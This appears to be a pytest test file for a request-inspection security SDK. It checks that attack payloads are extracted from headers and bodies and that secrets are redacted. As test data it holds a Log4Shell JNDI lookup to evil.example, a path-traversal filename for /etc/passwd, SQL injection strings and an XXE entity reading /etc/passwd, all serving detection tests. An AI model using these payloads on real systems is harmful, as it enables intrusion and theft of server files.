"""What is handed over to be searched holds the attack, wherever it stands, and no secret."""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.sdk.requests import App, jwt, seen

from tocsin.event.signatures import match
from tocsin.sdk.reading import probes
from tocsin.sdk.watching.serving import is_inspected

JNDI = "${jndi:ldap://evil.example/a}"
SECRET = "S3cr3tPassw0rd"


def headers(*pairs: tuple[str, str]) -> str:
    """The probe of these lines, the same in either world."""
    asgi = probes.of_headers([(name.encode(), value.encode()) for name, value in pairs], 1024)
    wsgi = probes.of_headers(
        [(f"HTTP_{name.upper().replace('-', '_')}", value) for name, value in pairs], 1024
    )
    assert asgi == wsgi
    return asgi or ""


@pytest.mark.parametrize(
    "name",
    """accept accept-language accept-encoding origin if-modified-since range traceparent tracestate
    authorization proxy-authorization cookie content-type x-api-key host via sec-fetch-site
    sec-ch-ua x-csrf-token x-forwarded-for x-api-version cache-control if-none-match""".split(),
)
@pytest.mark.parametrize("before", ["", "Bearer abc", "a=1; lang="])
def test_an_attack_is_seen_in_any_header(name: str, before: str) -> None:
    probe = headers(("accept", "*/*"), (name, before + JNDI))
    assert "sig.jndi.header" in match(probe, "probe_header"), probe


def test_an_attack_in_a_header_is_handed_over_with_its_request() -> None:
    (noted,) = App().reader.read(seen("GET /", headers={"accept-language": JNDI}))
    assert noted.probe == {"probe_header": f"accept-language={JNDI}"}


HONEST = [
    ("host", "api.example.org:8080"),
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
    ("accept-language", "de-CH,de;q=0.9,en;q=0.8"),
    ("accept-encoding", "gzip, deflate, br, zstd"),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
    ("sec-ch-ua", '"Not(A:Brand";v="99", "Google Chrome";v="133", "Chromium";v="133"'),
    ("sec-ch-ua-platform", '"Linux"'),
    ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    ("if-none-match", 'W/"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
    ("if-modified-since", "Wed, 21 Oct 2026 07:28:00 GMT"),
    ("range", "bytes=0-1023, 2048-"),
    ("origin", "https://www.example.org"),
    ("via", "1.1 varnish (Varnish/6.0), 2.0 edge.example.org (CloudFront)"),
    ("cache-control", 'max-age=0, no-cache="set-cookie"'),
    ("traceparent", f"00-{'a1' * 16}-{'b2' * 8}-01"),
    ("tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"),
    ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false;meta=1"),
    ("authorization", f"Bearer {jwt({'sub': 'ann'})}"),
    ("x-csrf-token", "IjFhMmIzYyI.Z1w"),
    ("cookie", "session=s%3Aabc.d%2Be; prefs=%7B%22dark%22%3Atrue%7D; _ga=GA1.2.3.4; seen=1"),
    ("priority", "u=1, i"),
    ("x-requested-with", "XMLHttpRequest"),
]


def test_honest_headers_are_not_handed_over() -> None:
    assert headers(*HONEST) == ""


def test_what_is_handed_over_of_headers_is_no_secret() -> None:
    probe = headers(
        ("authorization", f"Bearer {SECRET}'{JNDI}"),
        ("x-api-key", f"my$ecr<et;{SECRET}"),
        ("cookie", f"session={SECRET}'x; theme=dark'; csrftoken={SECRET}{JNDI}"),
        ("accept", f"<password>{SECRET}</password>"),
        ("x-note", f"password={SECRET}; {jwt({'sub': 'ann'})}"),
    )
    assert SECRET not in probe
    assert "eyJ" not in probe
    assert "crumb=theme=dark'" in probe
    assert len(probe) <= 1024


def multipart(*parts: tuple[str, str, str]) -> bytes:
    lines = [
        f'--b\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{value}\r\n'
        for name, more, value in parts
    ]
    return ("".join(lines) + "--b--").encode()


def body(data: bytes, kind: str) -> str:
    """The probe of a request with this body."""
    request = seen("POST /", headers={"content-type": kind})
    request.body_in = [data]
    (noted, *_) = App().reader.read(request)
    return (noted.probe or {}).get("probe_body", "")


def test_names_of_files_and_of_keys_are_handed_over_when_they_are_odd() -> None:
    kind = "multipart/form-data; boundary=b"
    file = multipart(("f", '; filename="../../../../etc/passwd"', "x"), ("a", "", "1"))
    assert body(file, kind) == "filename=../../../../etc/passwd"
    odd, plain = '; filename="report (1).pdf"', '; filename="report.pdf"'
    assert body(multipart(("f", odd, "x")), kind) == "filename=report (1).pdf"
    assert body(multipart(("f", plain, "x")), kind) == ""
    asked = json.dumps({"' or 1=1 --": 1, "page": 2}).encode()
    assert body(asked, "application/json") == "' or 1=1 --=1"


@pytest.mark.parametrize(
    "values",
    [
        {"a": "x" * 9_000, "q": "1' or 1=1 --"},
        {"q": "x" * 900 + "1' or 1=1 --" + "x" * 900},
        {"q": "x " * 1_500 + "1' or 1=1 --"},
        {"q": "1' or 1=1 --" + " x" * 3_000},
        {**{f"k{n}": "two words" for n in range(400)}, "q": "1' or 1=1 --"},
        {**{f"k{n}": f"a ({n})" * 40 for n in range(400)}, "q": "1' or 1=1 --"},
    ],
)
def test_nothing_before_or_behind_an_attack_hides_it(values: Any) -> None:
    probe = probes.of_body(values, 2048)
    assert probe is not None
    assert "' or 1=1 --" in probe
    assert len(probe) <= 2048


def test_what_comes_again_is_handed_over_once() -> None:
    assert probes.of_body({"a": "x y", "b": "x y", "c": "y z"}, 2048) == "a=x y\nc=y z"


@pytest.mark.parametrize("kind", ["text/xml", "application/soap+xml; charset=utf-8", "text/plain"])
def test_a_body_without_fields_is_handed_over_without_its_secrets(kind: str) -> None:
    assert is_inspected(kind)
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    probe = body(f"{entity}\n<a><password>{SECRET}</password>&x;</a>".encode(), kind)
    assert probe.startswith(f"body={entity}\x0b<a><password>[redacted")
    assert SECRET not in probe
    padded = f"<a>{'<b>1</b>' * 900}</a>{entity}<password>{SECRET}</password>".encode()
    assert entity in body(padded, kind)
    assert SECRET not in body(padded, kind)
    assert body(b"nothing odd in it", kind) == ""
    assert len(body(b"<a>" * 3_000, kind)) <= 2048
